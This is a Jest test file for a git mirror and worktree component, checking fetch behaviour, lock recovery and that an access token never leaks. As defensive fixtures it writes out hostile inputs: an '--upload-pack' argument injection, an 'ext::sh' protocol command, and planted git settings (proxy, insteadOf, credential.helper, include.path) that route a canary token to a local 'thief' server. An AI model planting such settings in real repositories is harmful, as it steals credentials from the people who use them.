import { execFile, execFileSync } from "node:child_process";
import {
  chmodSync,
  existsSync,
  readdirSync,
  readFileSync,
  rmSync,
  truncateSync,
  writeFileSync,
} from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { promisify } from "node:util";
import { afterAll, beforeAll, describe, expect, test } from "@jest/globals";
import type { Repository } from "../../../src/domain/task/task.ts";
import { type GitOverHttp, gitOverHttp } from "../../support/git-over-http.ts";
import { testDirectory } from "../../support/test-directory.ts";
import { begin, captured, git, makeOrigin, openBench, repository, sh } from "./origin.ts";

const directory = testDirectory();
const token = `ghs_${"canary0123".repeat(52)}`;
let origin: string;
let server: GitOverHttp;

beforeAll(async () => {
  origin = makeOrigin(
    directory,
    "echo one > a.txt; for i in 1 2 3 4 5 6 7 8 9; do seq $i 2000 > f$i.txt; done",
  );
  server = await gitOverHttp(directory, token);
});
afterAll(() => server.close());

const open = (name: string) => openBench(join(directory, name), { url: origin, local: true });

describe("a fetch", () => {
  test("names commit and tree of a branch, and sees it move, be rewritten and become a directory", async () => {
    const bench = await open("moves");
    sh(origin, "git checkout -q -b topic; git commit -q --allow-empty -m two");
    const first = await bench.worktrees.fetch(repository, "topic");
    sh(origin, "git reset -q --hard HEAD~; echo x > x; git add x; git commit -q -m three");
    const second = await bench.worktrees.fetch(repository, "topic");
    sh(origin, "git checkout -q main; git branch -m topic topic/deeper");

    expect(second).toEqual({
      ref: "topic",
      commit: git(origin, "rev-parse", "topic/deeper"),
      tree: git(origin, "rev-parse", "topic/deeper^{tree}"),
    });
    expect(first).not.toEqual(second);
    expect(await bench.worktrees.fetch(repository, "topic/deeper")).toMatchObject({ ref: "topic/deeper" });
  });

  test("takes a commit by its id", async () => {
    const bench = await open("commits");
    const commit = git(origin, "rev-parse", "main");

    expect(await bench.worktrees.fetch(repository, commit)).toMatchObject({ ref: commit, commit });
  });

  test.each([
    "nowhere",
    "0123456789012345678901234567890123456789",
    "--upload-pack=x",
    "a..b",
    "",
    "x:y",
    "*",
  ])("says that %j is missing", async (ref) => {
    const bench = await open("missing");

    expect(await bench.worktrees.fetch(repository, ref)).toBe("missing");
    expect(bench.warnings).toEqual([]);
  });

  test("of one repository is one at a time, of all that ask", async () => {
    const bench = await open("crowd");

    const bases = await Promise.all(
      Array.from({ length: 6 }, () => bench.worktrees.fetch(repository, "main")),
    );

    expect(new Set(bases.map((base) => JSON.stringify(base))).size).toBe(1);
    expect(bench.warnings).toEqual([]);
  });

  test("survives the locks of a process that was killed", async () => {
    const bench = await open("locks");
    await bench.worktrees.fetch(repository, "main");
    const mirror = join(bench.directory, "mirrors/1001.git");
    const ref = readdirSync(join(mirror, "refs/drafthorse"))[0] ?? "";
    for (const lock of ["HEAD", "config", "packed-refs", "shallow", `refs/drafthorse/${ref}`])
      writeFileSync(join(mirror, `${lock}.lock`), "");
    sh(origin, "git commit -q --allow-empty -m more");

    expect(await bench.worktrees.fetch(repository, "main")).toMatchObject({
      commit: git(origin, "rev-parse", "main"),
    });
    expect(bench.warnings).toEqual([]);
  });

  test("removes the old half packs of killed ones, not the young", async () => {
    const bench = await open("half-packs");
    await bench.worktrees.fetch(repository, "main");
    const packs = join(bench.directory, "mirrors/1001.git/objects/pack");
    sh(packs, "touch -d '2 hours ago' tmp_pack_old; touch tmp_pack_young");

    await bench.worktrees.fetch(repository, "main");

    expect(readdirSync(packs).filter((name) => name.startsWith("tmp_"))).toEqual(["tmp_pack_young"]);
  });

  test.each([
    ["no HEAD", (mirror: string) => rmSync(join(mirror, "HEAD"))],
    [
      "an empty configuration and no refs",
      (mirror: string) => rmSync(join(mirror, "refs"), { recursive: true }),
    ],
    ["a cut pack", (mirror: string) => cutPacks(mirror)],
    ["no objects", (mirror: string) => rmSync(join(mirror, "objects"), { recursive: true })],
  ])("makes a mirror anew that has %s", async (name, spoil) => {
    const bench = await open(`spoilt-${name.replaceAll(" ", "-")}`);
    await bench.worktrees.fetch(repository, "main");
    spoil(join(bench.directory, "mirrors/1001.git"));

    const { base, worktree } = await begin(bench, "after");

    expect(readFileSync(join(worktree.directory, "a.txt"), "utf8")).toBe("one\n");
    expect((await captured(bench, base, "after")).files).toEqual([]);
  });

  test("of a remote that is gone leaves the mirror as it is", async () => {
    const bench = await open("gone");
    await bench.worktrees.fetch(repository, "main");
    const gone = await openBench(join(directory, "gone"), { url: join(directory, "nowhere"), local: true });

    await expect(gone.worktrees.fetch(repository, "main")).rejects.toMatchObject({ kind: "git" });

    expect(git(join(bench.directory, "mirrors/1001.git"), "fsck")).toBe("");
  });

  test("goes by no other protocol than the one that was asked for", async () => {
    const bench = await openBench(join(directory, "protocol"), {
      url: "ext::sh -c touch% /tmp/x",
      local: true,
    });

    await expect(bench.worktrees.fetch(repository, "main")).rejects.toMatchObject({ kind: "git" });
  });
});

describe("the token", () => {
  test("opens the remote and is in no argument and no file", async () => {
    const data = join(directory, "token");
    const bench = await openBench(data, { url: `${server.url}/origin/.git`, token });
    const spy = sampleCommandLines();

    const { base, worktree } = await begin(bench, "with-token");
    sh(worktree.directory, "echo edited > a.txt");
    await captured(bench, base, "with-token");

    expect(server.authorizations.filter((value) => value?.startsWith("basic ")).length).toBeGreaterThan(0);
    expect(spy()).not.toContain("canary0123");
    expect(filesWith(data, "canary0123")).toEqual([]);
    expect(filesWith(data, Buffer.from(`x-access-token:${token}`).toString("base64").slice(0, 60))).toEqual(
      [],
    );
  });

  test("is not in what a failure says", async () => {
    const wrong = `${token}wrong`;
    const bench = await openBench(join(directory, "wrong"), {
      url: `${server.url}/origin/.git`,
      token: wrong,
    });

    const failure = await bench.worktrees.fetch(repository, "main").catch((error: Error) => error);

    expect(failure).toMatchObject({
      kind: "git",
      message: expect.stringMatching(/^git fetch: .*username/is),
    });
    expect(failure).toMatchObject({ message: expect.not.stringContaining("canary0123") });
  });

  test("is refused inside an address", async () => {
    const bench = await openBench(join(directory, "address"), { url: `http://x:${token}@127.0.0.1:9/a.git` });

    await expect(bench.worktrees.fetch(repository, "main")).rejects.toMatchObject({ kind: "bug" });
  });
});

/** A server that takes whatever is sent to it, as an agent would plant it; what it was told is kept. */
let thief: { url: string; heard: string[]; close(): Promise<void> };
beforeAll(async () => {
  const heard: string[] = [];
  const listener = createServer((request, response) => {
    heard.push(JSON.stringify([request.method, request.url, request.headers]));
    response.writeHead(404).end();
  });
  listener.on("connect", (request, socket) => {
    heard.push(JSON.stringify([request.method, request.url, request.headers]));
    socket.end();
  });
  await new Promise<void>((done) => listener.listen(0, "127.0.0.1", done));
  const { port } = listener.address() as AddressInfo;
  const close = () => new Promise<void>((done) => void listener.close(() => done()));
  thief = { url: `http://127.0.0.1:${port}`, heard, close };
});
afterAll(() => thief.close());

describe("a token that an agent's settings are after", () => {
  const config = (name: string, value: string) => `git config --file "$FILE" '${name}' '${value}'`;
  const plants = (): Record<string, string> => ({
    "url.insteadOf": config(`url.${thief.url}/.insteadOf`, `${server.url}/`),
    "http.proxy": config("http.proxy", thief.url),
    "credential.helper": config("credential.helper", `!cat >> ${directory}/stolen; true`),
    "core.askPass": config("core.askPass", `${directory}/ask`),
    "http.extraHeader and a redirect": `${config("http.extraHeader", "X-Thief: 1")}; ${config("http.followRedirects", "true")}`,
    "include.path": `${config("include.path", "evil")}; printf '[http]\\n\\tproxy = ${thief.url}\\n' > "$(dirname $FILE)/evil"`,
  });

  test.each([
    "url.insteadOf",
    "http.proxy",
    "credential.helper",
    "core.askPass",
    "http.extraHeader and a redirect",
    "include.path",
  ])("does not reach whom %s names", async (name) => {
    const key = `token-${name.replace(/\W+/g, "-").toLowerCase()}`;
    const bench = await openBench(join(directory, key), { url: `${server.url}/origin/.git`, token });
    const { worktree } = await begin(bench, key);
    const plant = plants()[name] ?? "false";
    for (const file of [".git/config", "../home/.gitconfig"])
      sh(worktree.directory, `FILE=${file}; ${plant}`);
    sh(origin, `echo ${name} >> a.txt; git commit -qam '${name}'`);
    const before = server.authorizations.length;

    const base = await bench.worktrees.fetch(repository, "main");

    expect(base).toMatchObject({ commit: git(origin, "rev-parse", "HEAD") });
    expect(server.authorizations.length).toBeGreaterThan(before);
    expect(thief.heard).toEqual([]);
    expect(existsSync(join(directory, "stolen"))).toBe(false);
  });

  test("would be theirs if the host used such settings", async () => {
    const file = join(directory, "victim");
    sh(directory, `FILE=${file}; ${plants()["http.proxy"]}`);
    const secret = Buffer.from(`x-access-token:${token}`).toString("base64");
    const header = `http.extraHeader=Authorization: basic ${secret}`;
    const env = { PATH: "/usr/bin:/bin", GIT_CONFIG_GLOBAL: file, GIT_TERMINAL_PROMPT: "0" };

    const asked = promisify(execFile)("git", ["-c", header, "ls-remote", `${server.url}/origin/.git`], {
      env,
    });

    await expect(asked).rejects.toThrow();
    expect(thief.heard.join()).toContain(secret);
  });
});

describe("two attempts on one repository", () => {
  test("never see each other", async () => {
    const bench = await open("pair");
    const keys = ["pair-1", "pair-2"];
    const begun = await Promise.all(keys.map((key) => begin(bench, key)));
    for (const [index, { worktree }] of begun.entries())
      sh(worktree.directory, `echo ${index} > mine-${index}`);

    const changes = await Promise.all(
      begun.map(({ base }, index) => captured(bench, base, keys[index] ?? "")),
    );
    await bench.worktrees.close("pair-1");

    expect(changes.map(({ files }) => files.map(({ path }) => path))).toEqual([["mine-0"], ["mine-1"]]);
    expect(existsSync(begun[1]?.worktree.directory ?? "")).toBe(true);
  });

  test("of two repositories have two mirrors", async () => {
    const bench = await open("mirrors-of-two");
    const other: Repository = { ...repository, id: 1002, name: "other" };

    await Promise.all([repository, other].map((one) => bench.worktrees.fetch(one, "main")));

    expect(readdirSync(join(bench.directory, "mirrors")).toSorted()).toEqual(["1001.git", "1002.git"]);
  });
});

/** Cuts each pack of a mirror in half, as a full disk would. */
function cutPacks(mirror: string): void {
  for (const file of readdirSync(join(mirror, "objects"), { recursive: true, encoding: "utf8" })) {
    const path = join(mirror, "objects", file);
    if (!/\.pack$|^..\/.{38}$/.test(file)) continue;
    chmodSync(path, 0o600);
    truncateSync(path, 20);
  }
}

/** Samples the command lines of all processes until it is asked for them. */
function sampleCommandLines(): () => string {
  const seen = new Set<string>();
  const timer = setInterval(() => {
    for (const pid of readdirSync("/proc").filter((name) => /^\d+$/.test(name)))
      try {
        seen.add(readFileSync(`/proc/${pid}/cmdline`, "utf8"));
      } catch {}
  }, 1);
  return () => {
    clearInterval(timer);
    return [...seen].join("\n");
  };
}

function filesWith(root: string, word: string): string[] {
  try {
    return execFileSync("grep", ["-rlF", "--", word, root], { encoding: "utf8" }).split("\n");
  } catch {
    return [];
  }
}
